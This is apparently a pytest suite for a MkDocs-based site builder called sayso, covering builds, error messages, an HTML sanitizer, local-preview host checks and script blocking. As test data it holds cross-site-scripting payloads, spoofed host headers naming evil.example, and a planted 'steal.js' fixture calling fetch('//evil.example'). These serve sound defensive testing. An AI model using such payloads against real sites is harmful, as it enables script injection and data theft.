"""The way to a site, with the real engine: built whole or not at all, and told in the editors' terms."""

import logging
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from sayso.diagnostics import Severity
from sayso.links.internal import check_folder
from sayso.sanitize import sanitize
from sayso.site import timebound
from sayso.site.build import BuildResult, CannotBuild, build
from sayso.site.generate import generate
from sayso.site.origins import Origins, TellOrigins
from sayso.site.preview import allowed
from tests.support.scratch import MKDOCS_YML, REPOSITORY, claims, copy_of_repository, scratch

HOME = "# The bridge\n\nSee [[claim:claim-00001]]\n"
FILES = {"mkdocs.yml": MKDOCS_YML, "claims.yml": claims(3), "content/index.md": HOME}
BIN = Path(sys.executable).parent
#: The engines as users call them, without their neighbours' banners.
ENVIRONMENT = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "DISABLE_MKDOCS_2_WARNING": "true"}


@pytest.fixture
def site(tmp_path: Path) -> Path:
    return scratch(tmp_path, FILES)


def run(*command: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(BIN / command[0]), *map(str, command[1:])],
        cwd=cwd,
        env=ENVIRONMENT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def tree(folder: Path) -> dict[str, bytes]:
    return {
        path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()
    }


def left_over(root: Path) -> list[str]:
    return [name for name in os.listdir(root) if name.startswith(".site-")]


def errors(result: BuildResult) -> list[str]:
    return [
        f"{each.mark}: {each.code} {each.message}"
        for each in result.diagnostics
        if each.severity is Severity.ERROR
    ]


# The build


def test_a_small_site_is_built_and_tested(site: Path) -> None:
    told: list[str] = []
    result = build(site, progress=told.append)
    assert errors(result) == []
    assert result.site == site / "site"
    assert result.pages > 10
    assert result.links > 100
    assert "Our army held 1 metres" in (site / "site/claims/claim-00001/index.html").read_text()
    assert check_folder(site / "site").findings == ()
    steps = [words.split()[0] for words in told if not words.startswith(" ")]  # else how far one is
    assert steps[:4] == ["Checking", "Building", "Making", "Testing"]
    assert left_over(site) == []


def test_building_again_writes_no_page_and_takes_away_what_is_gone(site: Path) -> None:
    build(site)
    before = {path: path.stat().st_mtime_ns for path in (site / "build/docs").rglob("*") if path.is_file()}
    first = tree(site / "site")
    build(site)
    assert before == {path: path.stat().st_mtime_ns for path in before}
    second = tree(site / "site")
    assert first.keys() == second.keys()
    (site / "claims.yml").write_text(claims(2))
    assert errors(build(site)) == []
    gone = first.keys() - tree(site / "site").keys()
    assert "claims/claim-00002/index.html" in gone


def test_a_broken_file_keeps_the_old_site(site: Path) -> None:
    build(site)
    before = tree(site / "site")
    (site / "claims.yml").write_text(claims(3).replace("claimant: south-army", "claimant: nobody", 1))
    result = build(site)
    assert result.site is None
    assert [line.split(" ")[:2] for line in errors(result)] == [["claims.yml:5:15:", "SAY101"]]
    assert tree(site / "site") == before


def test_a_warning_of_the_engine_is_told_at_the_editors_file(site: Path) -> None:
    (site / "content/index.md").write_text(HOME + "\n[See this](nowhere.md)\n")
    result = build(site)
    assert result.site is None
    (told,) = [line for line in errors(result) if "SAY045" in line]
    assert told.startswith(
        "content/index.md:1:1: SAY045 Doc file 'index.md' (from content/index.md) contains a link"
    )


def test_a_broken_link_is_told_at_the_record_with_page_link_and_reason(site: Path) -> None:
    theirs = (REPOSITORY / "templates/claim.md.j2").read_text()
    (site / "templates").mkdir()
    (site / "templates/claim.md.j2").write_text(theirs + '\n\n<p><a href="../gone/#x">x</a></p>\n')
    result = build(site)
    assert result.site is None
    assert (
        "claims.yml:3:9: SAY046 claims/claim-00000/index.html links to '../gone/#x': there is no such page"
    ) in errors(result)
    assert not (site / "site").exists()


def test_one_fault_of_the_theme_is_told_three_times_not_a_thousand(site: Path) -> None:
    (site / "mkdocs.yml").write_text(MKDOCS_YML + "extra_css: [assets/gone.css]\n")
    told = [line for line in errors(build(site)) if "gone.css" in line]
    assert len(told) == 3
    assert sum(" more pages)" in line for line in told) == 1


def test_a_page_that_nobody_leads_to_is_found(site: Path) -> None:
    build(site)
    (site / "build/docs/stranger.md").write_text("# A stranger\n")
    result = build(site)
    assert result.strangers == ("stranger.md",)
    (told,) = errors(result)
    assert "stranger/index.html: no link leads from the home page to this page" in told


def test_without_mkdocs_yml_it_says_how_to_get_one(site: Path) -> None:
    (site / "mkdocs.yml").unlink()
    result = build(site)
    assert not result.configured
    assert [each.code for each in result.diagnostics] == ["SAY043"]
    assert "copy" in result.diagnostics[0].hint


@pytest.mark.parametrize(
    ("text", "place", "words"),
    [
        ("site_name: [\n", "mkdocs.yml:2:1", "parsing the configuration"),
        (MKDOCS_YML + "them: x\n", "mkdocs.yml:11:1", "Unrecognised configuration name: them"),
        (MKDOCS_YML + "dev_addr: 5\n", "mkdocs.yml:11:1", "dev_addr"),
        (MKDOCS_YML.replace("  - sayso\n", ""), "mkdocs.yml:1:1", "does not use the sayso plugin"),
        (MKDOCS_YML + "use_directory_urls: false\n", "mkdocs.yml:1:1", "every page is a folder"),
        (MKDOCS_YML.replace("build/docs", "content"), "mkdocs.yml:1:1", "must have 'docs_dir: build/docs'"),
    ],
)
def test_a_broken_mkdocs_yml_is_a_finding_at_its_place(site: Path, text: str, place: str, words: str) -> None:
    (site / "mkdocs.yml").write_text(text)
    result = build(site)
    assert result.site is None
    assert any(line.startswith(f"{place}: SAY04") and words in line for line in errors(result)), errors(
        result
    )


def test_a_template_that_fails_is_a_finding_at_its_line(site: Path) -> None:
    (site / "templates").mkdir()
    (site / "templates/method.md.j2").write_text("# Method\n{{ nothing.there }}\n")
    assert errors(build(site))[0].startswith("templates/method.md.j2:2:1: SAY042 ")
    (site / "templates/method.md.j2").unlink()
    (site / "site_config/theme").mkdir()
    (site / "site_config/theme/main.html").write_text('{% extends "base.html" %}\n{% block %}\n')
    (site / "mkdocs.yml").write_text(MKDOCS_YML.replace("font:", "custom_dir: site_config/theme, font:"))
    assert errors(build(site))[-1].startswith("site_config/theme/main.html:2:1: SAY045 TemplateSyntaxError")


def test_the_packaged_look_stands_behind_the_sites_own(site: Path) -> None:
    build(site)
    page = (site / "site/index.html").read_text()
    assert 'property="og:type"' in page
    assert 'href="assets/status.css"' in page


# Where it is built


@pytest.mark.parametrize("name", [".", "..", "build/docs", "build/docs/site", "content", "claims.yml"])
def test_a_folder_with_something_else_in_it_is_never_replaced(site: Path, name: str) -> None:
    before = tree(site)
    with pytest.raises(CannotBuild) as caught:
        build(site, site / name)
    assert caught.value.usage
    assert {path: data for path, data in tree(site).items() if path in before} == before


def test_another_folder_below_another_root(site: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    out = tmp_path_factory.mktemp("elsewhere") / "deep" / "er"
    assert build(site, out).site == out
    assert (out / "index.html").is_file()


def test_a_disk_that_refuses_is_one_sentence(site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    build(site)
    before = tree(site / "site")

    def full(*_: object) -> None:
        raise OSError(28, os.strerror(28))

    monkeypatch.setattr("mkdocs.utils.write_file", full)
    with pytest.raises(CannotBuild, match=r"^cannot write the site: no space left on device$"):
        build(site)
    assert tree(site / "site") == before
    assert left_over(site) == []


# The command


def test_the_command_says_where_the_site_is(site: Path) -> None:
    ended = run("sayso", "build", cwd=site)
    assert (ended.returncode, ended.stdout) == (0, "Nothing to mend.\n")
    assert f"The site is in {site / 'site'}" in ended.stderr


@pytest.mark.parametrize(
    ("spoil", "status", "words"),
    [
        ("claims.yml", 1, "SAY003"),
        ("mkdocs.yml", 2, "SAY045"),
        ("site_config/rubric.yml", 2, "SAY0"),
    ],
)
def test_the_commands_exit_status(site: Path, spoil: str, status: int, words: str) -> None:
    (site / spoil).write_text("[: ")
    ended = run("sayso", "build", "--format", "github", cwd=site)
    assert ended.returncode == status
    assert words in ended.stdout
    assert "Traceback" not in ended.stderr


# The engines


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The repository's own site, with what its content is today."""
    return copy_of_repository(tmp_path_factory.mktemp("real"))


def test_the_real_site_is_built_without_a_finding(real: Path) -> None:
    result = build(real)
    assert errors(result) == []
    assert [each for each in result.diagnostics if each.severity is Severity.WARNING] == []


@pytest.mark.parametrize("engine", ["mkdocs", "properdocs"])
def test_the_engines_build_the_real_site_without_a_warning(real: Path, engine: str) -> None:
    (real / "build/docs").mkdir(parents=True, exist_ok=True)
    ended = run(engine, "build", "--strict", "-f", "mkdocs.yml", "-d", f".site-{engine}", cwd=real)
    assert ended.returncode == 0, ended.stderr
    assert "WARNING" not in ended.stdout + ended.stderr
    assert "MkDocs 2" not in ended.stdout + ended.stderr
    assert check_folder(real / f".site-{engine}").findings == ()


def test_the_engine_alone_stops_at_an_error_and_says_where(site: Path) -> None:
    (site / "claims.yml").write_text(claims(3).replace("claimant: south-army", "claimant: nobody", 1))
    (site / "build/docs").mkdir(parents=True)
    ended = run("mkdocs", "build", cwd=site)
    assert ended.returncode == 1
    assert "ERROR   -  claims.yml:5:15: SAY101" in ended.stderr
    assert "Traceback" not in ended.stderr


def test_the_engine_alone_names_the_editors_file_in_its_warnings(site: Path) -> None:
    (site / "content/index.md").write_text(HOME + "\n[See this](nowhere.md)\n")
    (site / "build/docs").mkdir(parents=True)
    ended = run("mkdocs", "build", "--strict", cwd=site)
    assert ended.returncode == 1
    assert "'index.md' (from content/index.md)" in ended.stderr


def test_origins_name_the_line_of_a_record(site: Path) -> None:
    origins = Origins(generate(site))
    message = "Doc file 'claims/claim-00001.md' has a link to 'elsewhere.md', see claims/index.md"
    assert origins.told(message) == (
        "Doc file 'claims/claim-00001.md' (from claims.yml:8) has a link to 'elsewhere.md',"
        " see claims/index.md (from claims.yml)"
    )
    record = logging.LogRecord(
        "mkdocs", logging.WARNING, "", 1, "page '%s'", ("claims/claim-00001.md",), None
    )
    teller = TellOrigins()
    teller.origins = origins
    for _ in range(2):
        assert teller.filter(record)
        assert record.getMessage() == "page 'claims/claim-00001.md' (from claims.yml:8)"


# The sanitizer


def shape(node: LexborNode | None) -> list[object]:
    """A tree as nested lists: element, attributes, children."""
    if node is None:
        return []
    if node.tag == "-text":
        return [node.text_content]
    inner = [shape(child) for child in node.iter(include_text=True)]
    return [node.tag, sorted((name, value or "") for name, value in node.attributes.items()), inner]


def test_the_sanitizer_changes_nothing_in_the_real_site(real: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pages: list[str] = []

    def watch(html: str) -> str:
        pages.append(html)
        return sanitize(html)

    monkeypatch.setattr("sayso.site.plugin.sanitize", watch)
    build(real)
    assert len(pages) > 100
    for html in pages:
        assert shape(LexborHTMLParser(sanitize(html)).body) == shape(LexborHTMLParser(html).body)


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ("<p onclick='x()'>a</p>", "<p>a</p>"),
        ("<script>x()</script>a", "a"),
        ("<style>x</style>a", "a"),
        ('<p style="color:red">a</p>', "<p>a</p>"),
        ('<a href="javascript:x()">a</a>', "<a>a</a>"),
        ('<a href="JaVaScRiPt&colon;x()">a</a>', "<a>a</a>"),
        ('<a href="data:text/html,x">a</a>', "<a>a</a>"),
        ('<img src="x" onerror="x()">', '<img src="x">'),
        ("<iframe src='https://x.org'></iframe>a", "a"),
        ("<form action='x'><input name=y>a</form>", "a"),
        ("<base href='https://x.org'>a", "a"),
        ("<meta http-equiv=refresh content='0;url=x'>a", "a"),
        ("<svg><script>x()</script></svg>a", "<svg></svg>a"),
        ("<math><mtext><img src=x></mtext></math>a", "a"),
        ("<!-- c -->a", "a"),
        ('<template><img src="x"></template>a', "a"),
        ('<div tabindex="5">a</div>', "<div>a</div>"),
    ],
)
def test_the_sanitizer_lets_nothing_active_through(html: str, left: str) -> None:
    assert sanitize(html) == left


@pytest.mark.parametrize(
    "html",
    [
        '<a href="../x/" rel="external" class="y" id="z">a</a>',
        '<bdi lang="ar" dir="auto">a</bdi>',
        '<details class="x"><summary>a</summary><q>b</q></details>',
        '<div role="region" aria-label="Sources" tabindex="0">a</div>',
        '<table><thead><tr><th scope="col">a</th></tr></thead></table>',
        '<time datetime="2025-01-05">a</time>',
        '<p data-search-exclude="">a</p>',
    ],
)
def test_the_sanitizer_leaves_alone_what_templates_write(html: str) -> None:
    assert sanitize(html) == html


# The preview


@pytest.mark.parametrize(
    ("header", "bound", "answered"),
    [
        ("127.0.0.1:8000", "127.0.0.1", True),
        ("localhost:8000", "127.0.0.1", True),
        ("LOCALHOST", "127.0.0.1", True),
        ("[::1]:8000", "127.0.0.1", True),
        ("", "127.0.0.1", False),
        ("127.0.0.1:8000,evil.example", "127.0.0.1", False),
        ("127.0.0.1:evil.example", "127.0.0.1", False),
        ("[::1]evil.example", "127.0.0.1", False),
        ("[::1].evil.example:8000", "127.0.0.1", False),
        ("evil.example@127.0.0.1", "127.0.0.1", False),
        ("127.0.0.1@evil.example", "127.0.0.1", False),
        ("127.0.0.1/evil.example", "127.0.0.1", False),
        ("127.0.0.1 evil.example", "127.0.0.1", False),
        ("127.0.0.1:8000:8000", "127.0.0.1", False),
        ("localhostevil.example", "127.0.0.1", False),
        ("evil-localhost", "127.0.0.1", False),
        ("localhost\0.evil.example", "127.0.0.1", False),
        ("ⓛocalhost", "127.0.0.1", False),
        ("127.0.0.1.nip.io", "127.0.0.1", False),
        ("0.0.0.0", "127.0.0.1", False),  # noqa: S104
        ("[::]:8000", "127.0.0.1", False),
        ("2130706433", "127.0.0.1", False),
        ("0x7f000001", "127.0.0.1", False),
        ("127.0.0.2:8000", "127.0.0.1", True),
        ("[0:0:0:0:0:0:0:1]", "127.0.0.1", True),
        ("127.0.0.1", "::1", True),
        ("[::1]:8000", "::1", True),
        ("evil.example", "::1", False),
        ("evil.example:8000", "127.0.0.1", False),
        ("localhost.evil.example", "127.0.0.1", False),
        ("127.0.0.1.evil.example", "127.0.0.1", False),
        ("192.168.1.5:8000", "127.0.0.1", False),
        ("192.168.1.5:8000", "0.0.0.0", True),  # noqa: S104 - only a name here
        ("evil.example", "0.0.0.0", False),  # noqa: S104
        ("desk.local:8000", "desk.local", True),
    ],
)
def test_the_preview_answers_only_to_this_machines_name(header: str, bound: str, answered: bool) -> None:
    assert allowed(header, bound) is answered


@pytest.fixture
def free_port() -> Iterator[int]:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    yield port


def test_a_port_in_use_is_one_sentence(site: Path) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = str(taken.getsockname()[1])
        ended = run("sayso", "serve", "--port", port, cwd=site)
    assert ended.returncode == 2
    assert f"port {port} is in use" in ended.stderr
    assert "Traceback" not in ended.stderr


def test_serve_without_mkdocs_yml(site: Path) -> None:
    (site / "mkdocs.yml").unlink()
    ended = run("sayso", "serve", cwd=site)
    assert ended.returncode == 2
    assert "there is no mkdocs.yml" in ended.stderr


def test_neighbours_banners_stay_quiet(site: Path) -> None:
    """Without the two settings of the Makefile the commands themselves see to it."""
    bare = {name: value for name, value in os.environ.items() if "MKDOCS_2_WARNING" not in name}
    ended = subprocess.run(
        [str(BIN / "sayso"), "build"],
        cwd=site,
        env=bare,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert ended.returncode == 0
    assert "MkDocs 2" not in ended.stdout + ended.stderr


# What must never get out


def test_every_page_says_what_a_browser_may_run_in_it(site: Path) -> None:
    build(site)
    for path in (site / "site").rglob("*.html"):
        html = path.read_text()
        assert html.count('http-equiv="Content-Security-Policy"') == 1, path
        # A page to embed has no script at all.
        assert "<script" not in html.partition("Content-Security-Policy")[0], path
        assert "<script" in html or path.parent.parent.name == "embed", path


def test_a_template_that_lets_a_script_through_is_stopped_at_the_editors_file(site: Path) -> None:
    build(site)
    before = tree(site / "site")
    (site / "site_config/theme").mkdir()
    (site / "site_config/theme/main.html").write_text(
        '{% extends "base.html" %}{% block content %}{{ super() }}'
        "{% if page.url == 'claims/claim-00001/' %}<script>alert(1)</script>{% endif %}{% endblock %}"
    )
    (site / "mkdocs.yml").write_text(MKDOCS_YML.replace("font:", "custom_dir: site_config/theme, font:"))
    result = build(site)
    assert result.site is None
    told = errors(result)
    assert len(told) == 1
    place, _, words = told[0].partition(": ")
    assert place == "claims.yml:8:9", "where the record of that page stands"
    assert words == "SAY047 claims/claim-00001/index.html: a script that is not ours: alert(1)"
    assert tree(site / "site") == before


def test_what_somebody_put_among_the_pages_does_not_get_out(site: Path) -> None:
    (site / "build/docs/assets").mkdir(parents=True)
    (site / "build/docs/assets/steal.js").write_text("fetch('//evil.example')")
    (site / "build/docs/more.html").write_text("<!doctype html><script src=assets/steal.js></script>")
    told = errors(build(site))
    assert any("SAY047 assets/steal.js: nobody declared this file" in each for each in told)
    assert any("SAY047 more.html: a script that is not ours" in each for each in told)


def test_a_list_of_what_may_be_active_that_cannot_be_read_is_a_finding(site: Path) -> None:
    (site / "site_config/active-content.json").write_text("{}")
    result = build(site)
    assert not result.configured
    assert errors(result)[0].startswith("site_config/active-content.json:1:1: SAY040 the list cannot be used")


def test_a_page_that_takes_too_long_is_a_finding_not_a_hang(
    site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(timebound, "MOST", 0.02)
    (site / "content/index.md").write_text(
        HOME + "[[editorial]]\n\n" + "*a* [b](c.md) `d`\n\n" * 2500 + "[[/editorial]]\n"
    )
    told = errors(build(site))
    assert [each for each in told if "took more than 0.02 s" in each] == told
    assert told[0].startswith("content/index.md:1:1: SAY045 ")
    assert len(told) == 1


def test_the_sites_own_name_is_text_on_every_page(site: Path) -> None:
    name = 'Who says "so" &lt; why'
    settings = f"site_name: '{name}'\nsite_description: '{name}'\n"
    (site / "mkdocs.yml").write_text(MKDOCS_YML.replace("site_name: The bridge\n", settings))
    assert errors(build(site)) == []
    for page in ("index.html", "claims/claim-00001/index.html", "404.html"):
        tree = LexborHTMLParser((site / "site" / page).read_bytes())
        [title] = tree.css("title")
        assert title.text().endswith(name), page
        metas = [each.attributes for each in tree.css("meta[property]")]
        named = {each["property"]: each["content"] for each in metas}
        assert named["og:site_name"] == name
        if page == "404.html":  # the others have a title and a description of their own
            assert named["og:title"] == named["og:description"] == name
